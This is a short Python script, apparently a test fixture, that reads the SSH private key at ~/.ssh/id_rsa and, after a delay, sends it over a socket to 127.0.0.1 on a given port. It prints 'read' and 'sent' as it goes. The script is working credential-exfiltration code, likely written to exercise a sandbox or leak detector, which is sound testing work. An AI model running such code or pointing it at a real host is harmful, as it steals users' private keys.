"""Reads the SSH private key under $HOME and sends it to 127.0.0.1:PORT, after DELAY seconds.

Usage: steal_and_send.py PORT DELAY. Prints "read" once it has the key and "sent" once it sent it.
"""
import os
import socket
import sys
import time

port, delay = int(sys.argv[1]), float(sys.argv[2])
with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as key:
    secret = key.read()
print("read", flush=True)
time.sleep(delay)
with socket.create_connection(("127.0.0.1", port)) as connection:
    connection.sendall(secret)
print("sent", flush=True)
